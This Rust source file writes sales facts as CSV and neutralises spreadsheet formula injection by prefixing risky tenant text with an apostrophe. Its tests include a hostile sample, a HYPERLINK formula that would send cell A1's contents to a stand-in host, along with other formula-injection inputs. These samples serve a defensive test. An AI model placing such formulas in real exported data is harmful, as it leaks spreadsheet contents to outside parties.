//! An answer's facts as CSV (RFC 4180), for spreadsheets.

use std::borrow::Cow;

use csv::{Terminator, WriterBuilder};
use sales_metrics::query::fact::Fact;
use tenancy::ApiError;

const HEADER: [&str; 15] = [
    "id",
    "role",
    "measure",
    "period from",
    "period to",
    "label",
    "covered",
    "filters",
    "value",
    "unit",
    "display",
    "rows",
    "data version",
    "source keys",
    "source facts",
];

/// What a spreadsheet takes a cell for a formula by, full-width forms included.
const FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// A header, and a line for each fact.
///
/// # Errors
/// None that facts can cause.
pub(crate) fn csv(facts: &[Fact]) -> Result<Vec<u8>, ApiError> {
    let failed = |e: csv::Error| ApiError::internal("writing the facts", e);
    let mut writer = WriterBuilder::new().terminator(Terminator::CRLF).from_writer(Vec::new());
    writer.write_record(HEADER).map_err(failed)?;
    for fact in facts {
        let (from, to) = fact.period.split_once('/').unwrap_or((&fact.period, &fact.period));
        let role = serde_json::to_value(fact.role).ok().and_then(|role| role.as_str().map(str::to_owned));
        let (value, rows) = (fact.value.map(|value| value.to_string()), fact.source.rows.to_string());
        let (filters, keys) = (filters(fact), fact.source.keys.join("; "));
        // What this system writes itself is no formula, and a figure below zero must stay one.
        let record = [
            fact.id.as_str().into(),
            role.unwrap_or_default().into(),
            text(&fact.measure),
            from.into(),
            to.into(),
            text(&fact.label),
            fact.covered.as_deref().unwrap_or_default().into(),
            text(&filters),
            value.unwrap_or_default().into(),
            text(&fact.unit),
            fact.display.as_str().into(),
            rows.into(),
            text(&fact.source.data_version),
            text(&keys),
            fact.source.facts.join("; ").into(),
        ];
        writer.write_record(record.iter().map(|cell: &Cow<'_, str>| cell.as_bytes())).map_err(failed)?;
    }
    writer.into_inner().map_err(|e| ApiError::internal("writing the facts", e.into_error()))
}

/// Text that came with the tenant's data, so that no spreadsheet computes it.
fn text(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA) { format!("'{text}").into() } else { text.into() }
}

/// `country: France, Germany; product: not TEA`.
fn filters(fact: &Fact) -> String {
    let of_one = |filter: &sales_metrics::query::plan::Filter| {
        let not = if filter.exclude { "not " } else { "" };
        format!("{}: {not}{}", filter.dimension, filter.members.join(", "))
    };
    fact.filters.iter().map(of_one).collect::<Vec<_>>().join("; ")
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn fact(json: serde_json::Value) -> Fact {
        let mut fact = json!({"id": "F1", "role": "value", "value": "-12.5", "unit": "GBP", "display": "-£12.50",
            "measure": "revenue", "label": "March 2011", "period": "2011-03-01/2011-03-31", "filters": [],
            "source": {"keys": ["METRIC#total|2011-03", "METRIC#total|2011-04"], "rows": 7, "dataVersion": "3"}});
        fact.as_object_mut().unwrap().extend(json.as_object().unwrap().clone());
        serde_json::from_value(fact).unwrap()
    }

    #[test]
    fn facts_are_lines_that_can_be_read_back() {
        let empty =
            fact(json!({"id": "F2", "role": "percent", "value": null, "empty": "noSales", "display": "no sales",
            "covered": "2011-03-01/2011-03-09", "source": {"facts": ["F1", "F3"], "rows": 0, "dataVersion": "3"},
            "filters": [{"dimension": "country", "members": ["Korea, South", "a \"b\"\nc"], "exclude": true}]}));
        let bytes = csv(&[fact(json!({})), empty]).unwrap();
        let text = String::from_utf8(bytes).unwrap();
        let first = "id,role,measure,period from,period to,label,covered,filters,value,unit,display,rows,data version,\
            source keys,source facts\r\nF1,value,revenue,2011-03-01,2011-03-31,March 2011,,,-12.5,GBP,-£12.50,7,3,\
            METRIC#total|2011-03; METRIC#total|2011-04,\r\nF2,percent,";
        assert!(text.starts_with(first) && text.ends_with(",F1; F3\r\n"), "{text}");
        let records: Vec<_> = ::csv::Reader::from_reader(text.as_bytes()).into_records().map(Result::unwrap).collect();
        assert_eq!(
            (&records[1][6], &records[1][7]),
            ("2011-03-01/2011-03-09", "country: not Korea, South, a \"b\"\nc")
        );
        assert_eq!((records.len(), &records[1][8], &records[1][10]), (2, "", "no sales"));
    }

    #[test]
    fn no_text_is_a_formula() {
        let hostile = "=HYPERLINK(\"http://x.example?\"&A1)";
        let bytes = csv(&[
            fact(json!({"measure": hostile, "label": "@SUM(A1)", "unit": "+1"})),
            fact(json!({"label": "\t=1", "filters": [{"dimension": "-a", "members": ["＝1"]}]})),
        ])
        .unwrap();
        let records: Vec<_> = ::csv::Reader::from_reader(bytes.as_slice()).into_records().map(Result::unwrap).collect();
        let place = |name: &str| HEADER.iter().position(|header| *header == name).unwrap();
        for record in &records {
            for (place, cell) in record.iter().enumerate() {
                let figure = ["value", "display"].contains(&HEADER[place]) && cell.starts_with('-');
                assert!(figure || !cell.starts_with(FORMULA), "{cell}");
            }
        }
        assert_eq!(&records[0][place("measure")], format!("'{hostile}"));
        assert_eq!((&records[0][place("value")], &records[1][place("filters")]), ("-12.5", "'-a: ＝1"));
    }
}
